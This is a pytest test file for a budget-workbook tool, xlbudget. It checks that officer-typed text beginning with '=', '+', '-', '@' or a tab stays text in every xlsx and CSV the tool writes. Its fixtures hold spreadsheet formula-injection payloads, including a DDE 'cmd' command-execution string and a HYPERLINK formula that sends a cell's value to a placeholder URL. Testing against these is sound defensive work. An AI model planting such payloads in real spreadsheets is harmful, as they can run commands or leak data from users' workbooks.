"""Text never becomes a formula: whatever an officer's text starts with, every xlsx xlbudget writes keeps it text.

A book whose 說明 and other text cells start with '=HYPERLINK(…)', '+1', '-x', '@SUM', a tab then '=', …
is built, checked with --mark, converted (with and without --mark) and run through the Excel buttons
(xlwings' remote engine). Every xlsx written is then read back, XML first: no cell holds a formula
(xlbudget writes none on purpose), and the officer's texts are there as text.
"""

import xlwings_json as xj  # noqa: I001  (sets the xlwings server mode before xlwings is imported)

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment

from xlbudget import addin
from xlbudget.cli import main
from xlbudget.app.example import example_workbook
from xlbudget.app.export import export_records, records_to_csv
from xlbudget.adapters.xlsxfile import save_atomic
from xlbudget.adapters.books import load_book

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"按此")'
HOSTILE = (HYPERLINK, "+1", "-x", "@SUM(A1:A2)", "\t=1+1", "  =2*3", "\r=3", "-", "'=4")


def _cells(ws, header):
    col = [c.value for c in ws[1]].index(header) + 1
    return [ws.cell(r, col) for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value not in (None, "")]


def hostile_book():
    """The example book with hostile text typed in its 說明, 單位, 總說明, 說明提要 and 出國計畫 cells."""
    wb = example_workbook()
    for n, cell in enumerate(_cells(wb["歲出明細"], "說明")[:len(HOSTILE)]):
        cell.value = HOSTILE[n]
        cell.data_type = "s"  # typed as text in Excel (openpyxl would store '=…' as a formula)
    units = _cells(wb["歲出明細"], "單位")
    units[-1].value, units[-2].value = "=1", "+年"
    units[-1].data_type = "s"
    for cell, text in zip(_cells(wb["歲入明細"], "說明"), ("@收入", HYPERLINK)):
        cell.value = text
        cell.data_type = "s"
    prose = wb["總說明"].cell(wb["總說明"].max_row + 1, 1, HYPERLINK)
    prose.data_type = "s"
    notes = _cells(wb["說明提要"], "承辦單位")
    notes[0].value = "-行政管理科"
    trips = _cells(wb["出國計畫"], "擬拜會機構")
    trips[0].value = "=cmd|' /C calc'!A0"
    trips[0].data_type = "s"
    # a typed name that is not the code's: its 實為 (the typed name) goes into 檢核結果
    codes = _cells(wb["歲出明細"], "用途別科目")
    codes[1].value = f"{codes[1].value} =1+1"
    # 數量 × 單價 ≠ 預算數 on a line, so --mark has a cell to mark; the officer's own note on it starts with '='
    amounts = _cells(wb["歲出明細"], "預算數")
    amounts[1].value += 1
    amounts[1].comment = Comment("=officer's note", "officer")
    return wb


def formulas_in(path: Path) -> list[str]:
    """Every <f> element of every worksheet of an xlsx, as 'sheet file: formula' (read from the XML itself), but
    the one formula xlbudget writes on purpose: on the marks' very hidden state sheet, a reference to each marked
    cell ('歲出明細'!F24, which Excel moves with the cell), in its 目前位置 column (G) and nowhere else."""
    found = []
    with zipfile.ZipFile(path) as z:
        state = _state_part(z)
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                for cell, formula in re.findall(r'<c r="([A-Z]+\d+)"[^>]*>\s*<f[ >]([^<]*)', xml):
                    if not (name == state and cell.startswith("G")
                            and re.fullmatch(r"'[^']+'!\$?[A-Z]{1,3}\$?\d+", formula.lstrip(">"))):
                        found.append(f"{name}: {cell} {formula}")
                if len(re.findall(r"<f[ >]", xml)) != len(re.findall(r'<c r="[A-Z]+\d+"[^>]*>\s*<f[ >]', xml)):
                    found.append(f"{name}: a formula not read above")
    return found


def _state_part(z: zipfile.ZipFile) -> str | None:
    """The part of the sheet named xlbudget標示紀錄, if the book has it."""
    from xlbudget.forms.results import STATE_SHEET

    book = z.read("xl/workbook.xml").decode("utf-8")
    found = re.search(r'<sheet [^>]*name="' + STATE_SHEET + r'"[^>]*r:id="([^"]+)"', book)
    if found is None:
        return None
    rels = z.read("xl/_rels/workbook.xml.rels").decode("utf-8")
    target = re.search(r'<Relationship [^>]*Id="' + found[1] + r'"[^>]*Target="([^"]+)"', rels) \
        or re.search(r'<Relationship [^>]*Target="([^"]+)"[^>]*Id="' + found[1] + '"', rels)
    return target[1].lstrip("/") if target[1].startswith("/xl/") else "xl/" + target[1]


def texts_in(path: Path) -> set[str]:
    """Every text value of every sheet, read back by openpyxl; and no cell typed as a formula (but the state sheet's
    references to the marked cells, formulas_in)."""
    from xlbudget.forms.results import STATE_SHEET

    wb = openpyxl.load_workbook(path)
    texts = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if ws.title == STATE_SHEET and cell.column_letter == "G" and cell.row > 1:
                    continue  # its references, checked in the XML by formulas_in
                assert cell.data_type != "f", f"{path.name}:{ws.title}!{cell.coordinate} {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    return texts


@pytest.fixture
def book(tmp_path) -> Path:
    path = save_atomic(hostile_book(), tmp_path / "in" / "惡意文字.xlsx")
    assert formulas_in(path) == []  # the input itself holds the texts as text
    return path


def test_the_input_is_read_with_its_texts(book):
    loaded = load_book(book)
    notes = {i.note for i in loaded.book.expenses}
    # the reader trims spaces and tabs: '\t=1+1' is read as '=1+1', which must stay text all the same
    assert {HYPERLINK, "=1+1", "=2*3", "=3", "@SUM(A1:A2)", "-x", "+1"} <= notes


def test_build_writes_no_formula_from_text(book, tmp_path):
    out = tmp_path / "built.xlsx"
    # exit 1: the hostile book's figures have errors of their own (item-product-mismatch, staff-costs-vs-items)
    assert main(["build", str(book), "-o", str(out)]) == 1
    assert formulas_in(out) == []
    texts = texts_in(out)
    # the 說明 texts reach the 明細表 as text (HYPERLINK is in the input sheet and in the table)
    wb = openpyxl.load_workbook(out)
    detail = {c.value for row in wb["歲出計畫說明提要與各項費用明細表"].iter_rows() for c in row}
    assert {HYPERLINK, "+1", "-x", "@SUM(A1:A2)", "=1+1", "=2*3", "=3"} <= detail
    assert "=cmd|' /C calc'!A0" in texts
    # a second build in place keeps them text too (openpyxl loads them as text and writes them back)
    assert main(["build", str(out)]) == 1
    assert formulas_in(out) == []


def test_check_mark_writes_no_formula_from_text(book, tmp_path):
    out = tmp_path / "marked.xlsx"
    assert main(["check", str(book), "--mark", "-o", str(out)]) == 1
    assert formulas_in(out) == []
    wb = openpyxl.load_workbook(out)
    results = [[c.value for c in row] for row in wb["檢核結果"].iter_rows()]
    header = next(i for i, r in enumerate(results) if r[0] == "序號")
    listed = {r[2]: r for r in results[header + 1:] if r[2] and r[0]}
    assert listed["object-name-mismatch"][6] == "=1+1"  # 實為: the typed name, as text
    state = wb["xlbudget標示紀錄"]
    assert "=officer's note" in {c.value for row in state.iter_rows() for c in row}
    texts_in(out)
    # clearing restores the officer's note, still not a formula
    cleared = tmp_path / "cleared.xlsx"
    assert main(["check", str(out), "--clear", "-o", str(cleared)]) == 0
    assert formulas_in(cleared) == []


@pytest.mark.parametrize("mark", [False, True])
def test_convert_writes_no_formula_from_text(book, tmp_path, mark):
    out = tmp_path / "out"
    args = ["convert", str(book.parent), "-o", str(out), "--jobs", "1"] + (["--mark"] if mark else [])
    assert main(args) in (0, 1)
    written = sorted(out.glob("*.xlsx"))
    assert {p.name for p in written} == {"惡意文字.xlsx", "轉換摘要.xlsx"}
    for path in written:
        assert formulas_in(path) == [], path.name
        texts_in(path)
    converted = texts_in(out / "惡意文字.xlsx")
    assert {HYPERLINK, "=1+1", "@收入", "=cmd|' /C calc'!A0"} <= converted
    # written fresh by XlsxWriter (no --mark) or by openpyxl (--mark): formula-like text is quote-prefixed
    # in the input sheet and in the table, so Excel keeps it text when the officer edits the cell
    with zipfile.ZipFile(out / "惡意文字.xlsx") as z:
        assert (b"Openpyxl" in z.read("docProps/app.xml")) == mark
    wb = openpyxl.load_workbook(out / "惡意文字.xlsx")
    for sheet in ("歲出明細", "歲出計畫說明提要與各項費用明細表"):
        cells = [c for row in wb[sheet].iter_rows() for c in row if c.value == HYPERLINK]
        assert cells and all(c.quotePrefix and c.data_type == "s" for c in cells), sheet


def test_csv_export_neutralises_formula_text(book):
    records = export_records(load_book(book).book)
    records.append({"table": "t", "row_code": "  =1", "row_name": "@x", "column": "-y", "value": 1, "unit": "+z"})
    rows = list(csv.DictReader(io.StringIO(records_to_csv(records))))
    for row in rows:
        for v in row.values():
            assert not (v.lstrip()[:1] in "=+-@" and v) or v.startswith("'") or v.lstrip("-").isdigit(), v


def test_csv_keeps_an_apostrophe_the_officer_typed():
    # a spreadsheet opening a CSV shows a leading apostrophe: the guard adds one to formula-like text only
    # (Excel's own text prefix, formulas.quoted, would double an apostrophe the officer typed)
    records = [{"table": "t", "row_code": "'0101", "row_name": "'=4", "column": "=1", "value": 1, "unit": "元"}]
    row = next(csv.DictReader(io.StringIO(records_to_csv(records))))
    assert (row["row_code"], row["row_name"], row["column"]) == ("'0101", "'=4", "'=1")


def _excel_reads_as_formula(value) -> bool:
    """What Excel does with a value written through its object model: = + - start a formula (@ a function)."""
    if not isinstance(value, str) or value.startswith("'"):  # a leading apostrophe makes the rest text
        return False
    return value.lstrip(" \t\r\n\u3000\u00a0")[:1] in ("=", "+", "-", "@") or value[:1] in ("\t", "\r")


def _written_values(actions):
    for a in actions:
        if a["func"] == "setValues":
            for row in a["values"]:
                yield from row


@pytest.mark.parametrize("script", ["build_schedules", "check_book", "export_data", "add_template"])
def test_addin_writes_no_formula_from_text(script):
    payload = xj.book_json(hostile_book())
    actions = xj.run_script(addin, script, payload)
    written = list(_written_values(actions))
    assert written, script
    assert [v for v in written if _excel_reads_as_formula(v)] == []
    assert all(a["func"] not in ("setFormula", "setFormulas") for a in actions)
    if script == "build_schedules":
        order = xj.sheet_order(payload, actions)
        detail = xj.sheet_values(actions, order.index("歲出計畫說明提要與各項費用明細表"))
        shown = {v for row in detail for v in row}
        assert {HYPERLINK, "+1", "-x", "@SUM(A1:A2)", "=1+1"} <= shown  # as Excel shows them: the texts


def test_addin_status_and_results_stay_text_when_a_cell_cannot_be_read():
    wb = hostile_book()
    wb["歲出明細"]["H2"].value = "=不是數字"
    wb["歲出明細"]["H2"].data_type = "s"
    actions = xj.run_script(addin, "check_book", xj.book_json(wb))
    assert [v for v in _written_values(actions) if _excel_reads_as_formula(v)] == []


def test_next_year_and_compare_write_no_formula_from_text(book, tmp_path):
    nxt = tmp_path / "新年度.xlsx"
    # exit 1, as build's of the same book: its figures have errors of their own (item-product-mismatch, …)
    assert main(["next-year", str(book), "-o", str(nxt)]) == 1
    assert formulas_in(nxt) == []
    assert HYPERLINK in texts_in(nxt)  # the 說明 carried over, as text
    # compare the book with itself changed: a 說明 line differs, its text lands in 明細差異
    wb = openpyxl.load_workbook(book)
    ws = wb["歲出明細"]
    col = [c.value for c in ws[1]].index("預算數") + 1
    ws.cell(4, col).value += 1000
    changed = save_atomic(wb, tmp_path / "改.xlsx")
    out = tmp_path / "比較.xlsx"
    assert main(["compare", str(book), str(changed), "--format", "xlsx", "-o", str(out)]) in (0, 1)
    assert formulas_in(out) == []
    texts_in(out)
